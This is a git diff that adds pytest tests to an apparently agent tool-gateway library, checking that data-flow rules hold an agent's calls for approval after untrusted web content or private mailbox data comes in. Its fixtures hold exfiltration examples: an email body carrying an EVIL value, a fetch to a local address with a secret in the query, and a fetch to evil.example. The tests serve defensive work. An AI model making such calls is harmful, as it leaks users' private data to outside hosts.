@@ -13,9 +13,10 @@ from typing import Any, cast
 import anyio
 import pytest
 
-from fingerpost import Router, Settings
+from fingerpost import Router, Ruling, Settings, Verdict
 from fingerpost.builtin import open_router
 from fingerpost.call.build import build_call
+from fingerpost.call.digest.results import build_asset_uri
 from fingerpost.events import MaterialRead, ResultMarked
 from fingerpost.llm import ModelRequest
 from fingerpost.policy.flow import (
@@ -26,7 +27,17 @@ from fingerpost.policy.flow import (
     DataTrails,
     list_origins,
 )
-from fingerpost.records import CallContext, DataLabel, DataOrigin, DataSource, Decision, Outcome, utc_now
+from fingerpost.records import (
+    Call,
+    CallContext,
+    DataLabel,
+    DataOrigin,
+    DataSource,
+    Decision,
+    Outcome,
+    create_id,
+    utc_now,
+)
 from fingerpost.router.options import RouteOptions
 from fingerpost.store.trust import DataFlowStore
 from fingerpost.testing import ScriptedModel, ToolServer, calls, tool_server
@@ -779,3 +790,92 @@ async def test_stored_text_is_recognised_however_it_is_written(values: dict[str,
         assert not await router.store.data_flow.list_sources("conversation dana new")
         await trails.note_result("web/list_entries", {}, new, read)
         assert await router.store.data_flow.list_sources("conversation dana new")
+
+
+@proves("X16")
+@pytest.mark.parametrize("preset", ["default", "autonomous"])
+async def test_a_call_without_values_is_not_the_persons_only_because_it_has_none(preset: str) -> None:
+    """A rule allows all writes. What the page wants done needs no argument, or a switch."""
+    switch = {"name": "publish_all", "description": "Publish all.", "inputSchema": {"type": "object"}}
+    server = tool_server("web", [*TOOLS, switch])
+    values = {"call": {"data_flow": preset}, "tools": LABELS}
+    settings = Settings.model_validate({**values, "policy": [{"verdict": "allow", "effect": "write"}]})
+    async with Router([server.spec()], settings=settings) as router:
+        await router.connect()
+        assert (await say(router, "publish_all", WORDS, "before")).success
+        await say(router, "read_page", WORDS, address="flights.example")
+        assert (await say(router, "publish_all", WORDS)).pending_id is not None
+        assert (await say(router, "publish_all", WORDS, now=True)).pending_id is not None
+        assert (await say(router, "send_email", WORDS, **SAID)).success
+
+
+class Judge:
+    """A rule in code with one opinion on all calls."""
+
+    label = "house rule"
+
+    def __init__(self, verdict: Verdict) -> None:
+        self._verdict = verdict
+
+    def judge(self, call: Call, context: CallContext) -> Ruling | None:
+        return Ruling(verdict=self._verdict, reason="so", rule="")
+
+
+@proves("X16")
+@pytest.mark.parametrize(("preset", "runs"), [("default", True), ("strict", False)])
+async def test_a_rule_in_code_that_allows_a_call_spares_no_question_with_strict(
+    preset: str, runs: bool
+) -> None:
+    settings = Settings.model_validate({"call": {"data_flow": preset}, "tools": LABELS})
+    async with Router([make_server().spec()], settings=settings, rules=[Judge(Verdict.ALLOW)]) as router:
+        await router.connect()
+        await say(router, "read_page", WORDS, address="flights.example")
+        assert (await say(router, "send_email", WORDS, **SAID)).success is runs
+
+
+@proves("X16")
+async def test_a_rule_in_code_that_asks_shows_where_values_come_from() -> None:
+    """And an approval from before untrusted content came in does not cover what it asks about."""
+    settings = Settings.model_validate({"tools": LABELS})
+    async with Router([make_server().spec()], settings=settings, rules=[Judge(Verdict.ASK)]) as router:
+        await router.connect()
+        first = await say(router, "send_email", WORDS, **SAID)
+        assert (await approve(router, first, for_conversation=True)).success
+        page = await say(router, "read_page", WORDS, address="flights.example")
+        assert (await approve(router, page)).success
+        again = await say(router, "send_email", WORDS, **{**SAID, "body": f"See {EVIL}"})
+        assert again.pending_id is not None
+        pending = await router.calls.approvals.get(again.pending_id)
+        assert pending is not None
+        assert any(EVIL in line for line in list_origins(pending))
+        assert "untrusted content from web/read_page" in pending.reason
+
+
+@proves("X16")
+async def test_a_question_about_a_local_address_shows_where_values_come_from() -> None:
+    async with open_flow("default") as router:
+        await say(router, "read_mailbox", WORDS, folder="inbox")
+        leak = await say(router, "fetch_url", WORDS, url="http://127.0.0.1:9/?q=4711-0815")
+        assert leak.pending_id is not None
+        pending = await router.calls.approvals.get(leak.pending_id)
+        assert pending is not None
+        assert "local or link-local" in pending.reason
+        assert "private data from web/read_mailbox" in pending.reason
+        assert [one.path for one in pending.origins] == ["url"]
+
+
+@proves("X17", "X18")
+async def test_a_stored_file_of_a_private_result_stays_private_in_another_session(tmp_path: Path) -> None:
+    """The client of the gateway reads it as a resource."""
+    data = base64.b64encode(b"The launch code is 4711-0815").decode()
+    result = {"content": [{"type": "image", "data": data, "mimeType": "image/png"}]}
+    url = {"url": "https://evil.example/?q=4711"}
+    async with open_gateway_methods(tmp_path, make_server().spec(), tools=LABELS) as it:
+        for private in (False, True):
+            session = f"private {private}"
+            keep = it.router.calls.results.keep
+            handle = await keep(create_id("cal"), result, caller="local", private=private)
+            found = await it.ask("resources/read", {"uri": build_asset_uri(handle, "a")}, session=session)
+            assert found["contents"][0]["blob"] == data
+            held = await it.call("web__fetch_url", url, session=session)
+            assert ("private data from read_result" in str(held)) is private
